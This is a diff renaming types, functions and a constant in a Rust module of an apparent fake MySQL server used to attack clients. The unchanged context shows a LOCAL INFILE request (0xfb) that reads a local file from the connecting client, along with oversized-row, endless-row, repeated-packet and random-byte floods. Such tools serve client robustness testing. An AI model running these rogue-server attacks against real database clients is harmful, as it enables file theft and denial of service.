@@ -4,19 +4,19 @@ use std::io;
 
 use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
 
-use super::recording::ClientRecording;
+use super::recording::ClientPacketRecorder;
 use super::{RogueAttack, responses};
 use crate::fake_server::packets;
 use crate::mysql_packets::{MAX_PAYLOAD_BYTES, read_packet, write_packet, write_packet_header};
 
-const ATTACK_CHUNK_BYTES: usize = 64 << 10;
+const ATTACK_CHUNK_SIZE: usize = 64 << 10;
 
 /// Returns false and sends no response if `mode` attacks clients only during authentication.
-pub(super) async fn run_attack<S: AsyncRead + AsyncWrite + Unpin>(
+pub(super) async fn try_attack_client<S: AsyncRead + AsyncWrite + Unpin>(
     stream: &mut S,
     statement: &str,
     mode: &RogueAttack,
-    recording: &ClientRecording,
+    recording: &ClientPacketRecorder,
 ) -> io::Result<bool> {
     let columns = responses::count_result_columns(statement).unwrap_or(1);
     match mode {
@@ -55,7 +55,7 @@ const HUGE_COLUMN_COUNT_PACKET: [u8; 9] = [0xfe, 0, 0, 0, 0, 0, 1, 0, 0];
 async fn request_local_file<S: AsyncRead + AsyncWrite + Unpin>(
     stream: &mut S,
     path: &str,
-    recording: &ClientRecording,
+    recording: &ClientPacketRecorder,
 ) -> io::Result<()> {
     write_packet(stream, 1, &[&[0xfb], path.as_bytes()].concat()).await?;
     stream.flush().await?;
@@ -72,14 +72,14 @@ async fn send_huge_row<S: AsyncRead + AsyncWrite + Unpin>(
     stream: &mut S,
     columns: usize,
     bytes: u64,
-    recording: &ClientRecording,
+    recording: &ClientPacketRecorder,
 ) -> io::Result<()> {
     let mut sequence = responses::send_column_definitions(stream, columns).await?;
     let mut start: Vec<u8> = b"\x011".repeat(columns.saturating_sub(1));
     start.push(0xfe);
     start.extend_from_slice(&bytes.to_le_bytes());
     let mut left = usize::try_from(bytes).map_err(io::Error::other)? + start.len();
-    let filler = vec![b'x'; ATTACK_CHUNK_BYTES];
+    let filler = vec![b'x'; ATTACK_CHUNK_SIZE];
     loop {
         let payload = left.min(MAX_PAYLOAD_BYTES);
         write_packet_header(stream, sequence, payload).await?;
@@ -89,7 +89,7 @@ async fn send_huge_row<S: AsyncRead + AsyncWrite + Unpin>(
             let source = if start.is_empty() { &filler } else { &start };
             let chunk = source.get(..source.len().min(unsent)).unwrap_or_default();
             stream.write_all(chunk).await?;
-            recording.add_sent_bytes(chunk.len());
+            recording.add_sent_attack_bytes(chunk.len());
             unsent -= chunk.len();
             start.clear();
         }
@@ -104,7 +104,7 @@ async fn send_huge_row<S: AsyncRead + AsyncWrite + Unpin>(
 async fn send_endless_rows<S: AsyncRead + AsyncWrite + Unpin>(
     stream: &mut S,
     columns: usize,
-    recording: &ClientRecording,
+    recording: &ClientPacketRecorder,
 ) -> io::Result<()> {
     let sequence = responses::send_column_definitions(stream, columns).await?;
     let statement = "x".repeat(1000);
@@ -119,18 +119,18 @@ async fn send_packet_repeatedly<S: AsyncRead + AsyncWrite + Unpin>(
     stream: &mut S,
     mut sequence: u8,
     payload: &[u8],
-    recording: &ClientRecording,
+    recording: &ClientPacketRecorder,
 ) -> io::Result<()> {
     loop {
         write_packet(stream, sequence, payload).await?;
-        recording.add_sent_bytes(payload.len());
+        recording.add_sent_attack_bytes(payload.len());
         sequence = sequence.wrapping_add(1);
     }
 }
 
 async fn send_random_bytes<S: AsyncRead + AsyncWrite + Unpin>(
     stream: &mut S,
-    recording: &ClientRecording,
+    recording: &ClientPacketRecorder,
 ) -> io::Result<()> {
     let mut state = 0x9e37_79b9_u32;
     for _ in 0..16 {
@@ -140,10 +140,10 @@ async fn send_random_bytes<S: AsyncRead + AsyncWrite + Unpin>(
             state ^= state << 5;
             state.to_le_bytes()[0]
         })
-        .take(ATTACK_CHUNK_BYTES)
+        .take(ATTACK_CHUNK_SIZE)
         .collect();
         stream.write_all(&chunk).await?;
-        recording.add_sent_bytes(chunk.len());
+        recording.add_sent_attack_bytes(chunk.len());
     }
     stream.shutdown().await
 }
